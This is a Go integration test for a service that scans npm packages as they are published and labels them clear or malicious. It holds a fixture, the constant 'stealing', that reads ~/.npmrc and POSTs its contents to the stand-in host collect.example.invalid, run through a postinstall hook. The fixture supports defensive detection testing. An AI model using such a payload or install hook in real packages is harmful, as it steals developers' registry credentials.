//go:build unix

package service

import (
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/donapi/donapi/internal/confine"
	"github.com/donapi/donapi/internal/registry"
	"github.com/donapi/donapi/internal/registry/registrytest"
	"github.com/donapi/donapi/internal/scan"
	"github.com/donapi/donapi/internal/store"
	"github.com/donapi/donapi/internal/store/storetest"
	"github.com/donapi/donapi/internal/worker"
	"github.com/donapi/donapi/knowledge"
)

func TestMain(m *testing.M) {
	if confine.IsChild() { // the test binary stands in for the program, and so for its confined processes
		k, err := scan.LoadKnowledge(knowledge.FS())
		if err == nil {
			err = confine.Serve(scan.Handler(k))
		}
		if err != nil {
			os.Exit(1)
		}
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// running is a service that serves while the test runs.
type running struct {
	*Service
	stop func()
}

// serve starts a service against a registry, with everything quick.
func serve(t *testing.T, r *registrytest.Registry, scanner worker.Scanner, change func(*Config)) *running {
	t.Helper()
	c := Config{Data: t.TempDir(), Follow: true, Work: true, Beginning: true, Registry: client(t, r), Feed: "standin", Scanner: scanner, Jobs: 2,
		Poll: 20 * time.Millisecond, QueuePoll: 20 * time.Millisecond, Check: time.Millisecond, Floor: 20 * time.Millisecond,
		Lag:   []time.Duration{10 * time.Millisecond, 20 * time.Millisecond, 40 * time.Millisecond, 80 * time.Millisecond},
		Retry: func(int) time.Duration { return 10 * time.Millisecond }, Log: logger(t)}
	if change != nil {
		change(&c)
	}
	s, err := Open(t.Context(), c)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx) }()
	stopped := false
	stop := func() {
		if stopped {
			return
		}
		stopped = true
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	}
	t.Cleanup(stop)
	return &running{s, stop}
}

func client(t *testing.T, r *registrytest.Registry) *registry.Client {
	t.Helper()
	c, err := registry.New(registry.LoadConfig(registry.Sources{Env: []string{"npm_config_registry=" + r.URL}}), "donapi/test")
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func logger(t *testing.T) *slog.Logger {
	return slog.New(slog.NewTextHandler(writer{t}, &slog.HandlerOptions{Level: slog.LevelDebug}))
}

type writer struct{ t *testing.T }

func (w writer) Write(p []byte) (int, error) {
	if w.t.Context().Err() == nil { // a test that has ended takes no more
		w.t.Log(strings.TrimSpace(string(p)))
	}
	return len(p), nil
}

// await waits until a condition holds.
func await(t *testing.T, what string, holds func() bool) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Minute)
	for !holds() {
		if time.Now().After(deadline) {
			t.Fatalf("in vain: %s", what)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// judged waits for the verdict of a version.
func (s *running) judged(t *testing.T, name, version string) store.Version {
	t.Helper()
	var v store.Version
	await(t, name+"@"+version+" judged", func() bool {
		var err error
		v, err = s.store.Version(t.Context(), name, version)
		if err != nil && !errors.Is(err, store.ErrNotFound) {
			t.Fatal(err)
		}
		return v.Stage == "judged"
	})
	return v
}

func realScanner(t *testing.T) worker.Scanner {
	t.Helper()
	k, err := scan.LoadKnowledge(knowledge.FS())
	if err != nil {
		t.Fatal(err)
	}
	pool := confine.NewPool(confine.Limits{Large: Shared, Threads: 1})
	t.Cleanup(pool.Close)
	return Limited(scan.New(k, &scan.Confined{Pool: pool, Knowledge: k.Digest}), 2)
}

func databases(t *testing.T, run func(t *testing.T, database string)) {
	t.Run("sqlite", func(t *testing.T) { run(t, "") })
	t.Run("postgres", func(t *testing.T) { run(t, storetest.PostgreSQL(t)(t)) })
}

// npm runs the real client against a registry.
func npm(t *testing.T, r *registrytest.Registry, dir string, args ...string) {
	t.Helper()
	path, err := exec.LookPath("npm")
	if err != nil {
		t.Skipf("no npm on this machine: %v", err)
	}
	home := t.TempDir()
	host := strings.TrimPrefix(r.URL, "http:")
	if err := os.WriteFile(filepath.Join(home, ".npmrc"), []byte("registry="+r.URL+"/\n"+host+"/:_authToken=any\naudit=false\nfund=false\nupdate-notifier=false\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(path, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HOME="+home, "npm_config_userconfig="+filepath.Join(home, ".npmrc"), "npm_config_cache="+filepath.Join(home, "cache"))
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("npm %v: %v\n%s", args, err, out)
	}
}

// project writes a package to publish.
func project(t *testing.T, name, version string, files map[string]string, scripts map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	manifest, err := json.Marshal(map[string]any{"name": name, "version": version, "scripts": scripts})
	if err != nil {
		t.Fatal(err)
	}
	files["package.json"] = string(manifest)
	for f, text := range files {
		if err := os.WriteFile(filepath.Join(dir, f), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// stealing reads a credential and sends it to a host that does not exist.
const stealing = `const fs = require("fs"), os = require("os"), https = require("https");
const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
const req = https.request({ hostname: "collect.example.invalid", method: "POST", path: "/in" });
req.write(token);
req.end();
`

// TestPublishedWithNpm publishes with the real client and waits for verdicts, on both databases.
func TestPublishedWithNpm(t *testing.T) {
	databases(t, func(t *testing.T, database string) {
		r, err := registrytest.Start("127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(r.Close)
		s := serve(t, r, realScanner(t), func(c *Config) { c.Database = database })
		npm(t, r, project(t, "honest", "1.0.0", map[string]string{"index.js": "module.exports = (a, b) => a + b;\n"}, nil), "publish")
		npm(t, r, project(t, "@s/thief", "2.0.0", map[string]string{"steal.js": stealing}, map[string]string{"postinstall": "node steal.js"}), "publish", "--access", "public")
		if v := s.judged(t, "honest", "1.0.0"); v.Level != "clear" || v.PublishedAt.IsZero() || v.FetchedAt.IsZero() || v.State != "present" {
			t.Errorf("honest: %+v", v)
		}
		thief := s.judged(t, "@s/thief", "2.0.0")
		if thief.Level != "malicious" || !thief.InstallScript {
			t.Errorf("thief: %+v", thief)
		}
		hits, err := s.store.Search(t.Context(), store.Search{Facts: []store.Fact{{Kind: "host", Value: "collect.example.invalid"}}})
		if err != nil || len(hits) != 1 || hits[0].Name != "@s/thief" {
			t.Errorf("by host: %v %v", hits, err)
		}
		npm(t, r, t.TempDir(), "unpublish", "--force", "@s/thief")
		await(t, "the removal", func() bool {
			v, err := s.store.Version(t.Context(), "@s/thief", "2.0.0")
			return err == nil && v.State == "removed" && v.Removal == "unpublished" && v.Blob != "" && v.Level == "malicious"
		})
		if blob, err := worker.Folder(filepath.Join(s.c.Data, "blobs")).Get(t.Context(), thief.Blob); err != nil || int64(len(blob)) != thief.Size {
			t.Errorf("the removed package was not kept: %v", err)
		}
	})
}
